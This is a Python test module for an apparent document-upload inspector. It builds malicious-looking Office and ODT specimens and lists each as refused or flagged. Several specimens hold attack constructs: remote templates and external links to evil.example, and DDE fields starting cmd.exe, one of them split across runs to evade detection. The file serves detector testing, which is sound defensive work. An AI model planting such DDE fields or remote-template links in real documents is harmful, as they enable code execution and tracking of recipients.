"""Office documents that are something else, carry macros or objects, or reach outside."""

from collections.abc import Callable

from app.inspection.flag import Flag
from tests.inspection.corpus import office
from tests.inspection.corpus.specimen import Specimen, accepted, refused
from tests.inspection.corpus.zips import Member, archive

D, X, T = "Konzept.docx", "Kostenplan.xlsx", "Vorlage.odt"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
BINARY_SHEET = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
SLIDES = f"{office.OFFICE}.presentationml.presentation.main+xml"
TEMPLATE = f"{office.OFFICE}.wordprocessingml.template.main+xml"
VBA = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
ACTIVEX = '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
Part = str | bytes


def word(name: str, content: Part) -> Callable[[], bytes]:
    """A DOCX with one part replaced or added."""
    return lambda: office.docx_with({name: content})


def sheet(name: str, content: Part) -> Callable[[], bytes]:
    """An XLSX with one part replaced or added."""
    return lambda: office.xlsx_with({name: content})


def text(name: str, content: Part) -> Callable[[], bytes]:
    """An ODT with one part replaced or added."""
    return lambda: office.odt_with({name: content})


def typed(content_type: str, *more: str) -> Callable[[], bytes]:
    """A DOCX whose main part says it is of this type."""
    return word("[Content_Types].xml", office.types("word/document.xml", content_type, *more))


def packed_mimetype() -> bytes:
    parts = office.members(office.odt_parts())
    first = Member("mimetype", parts[0].content * 1, method=8)
    return archive([first, *parts[1:]])


def without(name: str, parts: office.Parts) -> bytes:
    return archive(office.members({n: content for n, content in parts.items() if n != name}))


def related(*rows: str, name: str = "word/_rels/document.xml.rels") -> Callable[[], bytes]:
    """A DOCX with relationships of its main part."""
    return word(name, office.relations(*rows))


def field_codes(*pieces: str) -> Callable[[], bytes]:
    """A DOCX with a field whose code is spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return word("word/document.xml", office.word(f"<w:p>{runs}</w:p>"))


def linked(body: str) -> Callable[[], bytes]:
    """An ODT with this body."""
    return text("content.xml", office.odt_content(body))


DDE_LINK = (
    f'<externalLink xmlns="{office.SHEET}"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
)
HOSTILE: tuple[Specimen, ...] = (
    refused("macros", D, "a macro project", word("word/vbaProject.bin", CFB)),
    refused("macros", D, "a macro project in capitals", word("word/VBAPROJECT.BIN", CFB)),
    refused("macros", D, "a macro project of another name", typed(office.DOCX_TYPE, VBA)),
    refused("macros", D, "a .docm renamed", typed(MACRO)),
    refused("macros", D, "a .docm renamed, type in capitals", typed(MACRO.upper())),
    refused("macros", D, "data of macros", word("word/vbaData.xml", "<a/>")),
    refused("macros", X, "an .xlsm renamed", lambda: archive(
        office.members(office.xlsx_parts(MACRO_SHEET)))),
    refused("macros", X, "an .xlsb renamed", lambda: archive(
        office.members(office.xlsx_parts(BINARY_SHEET)))),
    refused("macros", X, "macros of Excel 4", sheet("xl/macrosheets/sheet1.xml", "<a/>")),
    refused("macros", X, "a dialog of Excel 5", sheet("xl/dialogsheets/sheet1.xml", "<a/>")),
    refused("macros", X, "a macro project", sheet("xl/vbaProject.bin", CFB)),
    refused("macros", T, "macros in Basic", text("Basic/Standard/Module1.xml", "<a/>")),
    refused("macros", T, "macros in Python", text("Scripts/python/a.py", "print()")),
    refused("ole_object", D, "an OLE object", word("word/embeddings/oleObject1.bin", CFB)),
    refused("ole_object", D, "an OLE object named as picture", word("word/media/a.png", CFB)),
    refused("ole_object", T, "an OLE object", text("Object 1", CFB)),
    refused("activex", D, "a control", word("word/activeX/activeX1.xml", "<a/>")),
    refused("activex", X, "a control", sheet("xl/activeX/activeX1.bin", b"x")),
    refused("activex", D, "a control by its type", typed(office.DOCX_TYPE, ACTIVEX)),
    refused("nested_archive", D, "an embedded .docm", word(
        "word/embeddings/a.docm", b"PK\x03\x04")),
    refused("kind_differs", X, "a DOCX named .xlsx", lambda: office.docx_with({})),
    refused("kind_differs", D, "an XLSX named .docx", lambda: office.xlsx_with({})),
    refused("kind_differs", D, "an ODT named .docx", lambda: office.odt_with({})),
    refused("kind_differs", T, "a DOCX named .odt", lambda: office.docx_with({})),
    refused("kind_not_allowed", D, "slides named .docx", typed(SLIDES)),
    refused("kind_not_allowed", D, "a template named .docx", typed(TEMPLATE)),
    refused("kind_not_allowed", T, "an ODS named .odt", lambda: archive(office.members(
        office.odt_parts("application/vnd.oasis.opendocument.spreadsheet")))),
    refused("kind_not_allowed", T, "its type is packed", packed_mimetype),
    refused("polyglot", D, "DOCX and ODT at once", lambda: archive(office.members(
        office.odt_parts() | office.docx_parts()))),
    refused("plain_archive", D, "any archive", lambda: archive([Member("a.txt", b"a")])),
    refused("main_part_missing", D, "no main part", lambda: without(
        "word/document.xml", office.docx_parts())),
    refused("main_part_missing", D, "no relationships", lambda: without(
        "_rels/.rels", office.docx_parts())),
    refused("main_part_missing", D, "two main parts", word("_rels/.rels", office.relations(
        office.relation("officeDocument", "word/document.xml"),
        office.relation("officeDocument", "word/other.xml")))),
    refused("main_part_missing", D, "its main part is elsewhere", word("_rels/.rels", (
        office.relations(office.relation("officeDocument", "http://evil.example/a.xml"))))),
    refused("main_part_missing", T, "no content", lambda: without(
        "content.xml", office.odt_parts())),
    refused("xml_damaged", D, "no XML as table of types", word("[Content_Types].xml", "<Types>")),
    refused("xml_damaged", D, "a very long table of types", word(
        "[Content_Types].xml", office.types("word/document.xml", office.DOCX_TYPE, " " * 600_000))),
    refused("zip_encrypted", T, "a password", text(
        "META-INF/manifest.xml", "<m><manifest:encryption-data/></m>")),
    accepted(D, "a template fetched from elsewhere", related(
        office.relation("attachedTemplate", "http://evil.example/a.dotm", external=True)),
        Flag.REMOTE_TEMPLATE),
    accepted(D, "a template on another computer", related(
        office.relation("attachedTemplate", r"file://\\evil.example\a.dotm", external=True),
        name="word/_rels/settings.xml.rels"), Flag.REMOTE_TEMPLATE),
    accepted(D, "a picture fetched from elsewhere", related(
        office.relation("image", "http://evil.example/a.png", external=True)), Flag.EXTERNAL_LINK),
    accepted(D, "an object fetched from elsewhere", related(
        office.relation("oleObject", "http://evil.example/a.rtf", external=True)),
        Flag.EXTERNAL_LINK),
    accepted(D, "a frame from elsewhere", related(
        office.relation("frame", "http://evil.example/", external=True)), Flag.EXTERNAL_LINK),
    accepted(D, "elsewhere, told in UTF-16", word("word/_rels/document.xml.rels", (
        office.relations(office.relation("image", "http://evil.example/", external=True))
        .replace("UTF-8", "UTF-16").encode("utf-16"))), Flag.EXTERNAL_LINK),
    accepted(D, "a field that starts a program", field_codes("DDEAUTO c:\\\\cmd.exe"), Flag.DDE),
    accepted(D, "the same in pieces", field_codes(" D", "DE", "AUTO ", "cmd"), Flag.DDE),
    accepted(D, "the same as simple field", word("word/document.xml", office.word(
        '<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>')), Flag.DDE),
    accepted(D, "a field that fetches text", field_codes("INCLUDETEXT http://evil.example/"),
             Flag.EXTERNAL_LINK),
    accepted(D, "another document inside", word(
        "word/embeddings/a.xlsx", office.xlsx_with({})), Flag.EMBEDDED_DOCUMENT),
    accepted(X, "a link to another workbook", sheet(
        "xl/externalLinks/externalLink1.xml", "<externalLink/>"), Flag.EXTERNAL_LINK),
    accepted(X, "a link that starts a program", sheet(
        "xl/externalLinks/externalLink1.xml", DDE_LINK), Flag.EXTERNAL_LINK, Flag.DDE),
    accepted(X, "a connection to a database", sheet("xl/connections.xml", "<connections/>"),
             Flag.EXTERNAL_LINK),
    accepted(T, "a picture fetched from elsewhere", linked(
        '<text:p><draw:image xlink:href="http://evil.example/a.png"/></text:p>'),
        Flag.EXTERNAL_LINK),
    accepted(T, "a section fetched from elsewhere", linked(
        '<text:section><text:section-source xlink:href="http://evil.example/"/></text:section>'),
        Flag.EXTERNAL_LINK),
    accepted(T, "a field that asks a program", linked(
        '<text:p><office:dde-source office:dde-application="cmd"/></text:p>'), Flag.DDE),
)  # fmt: skip
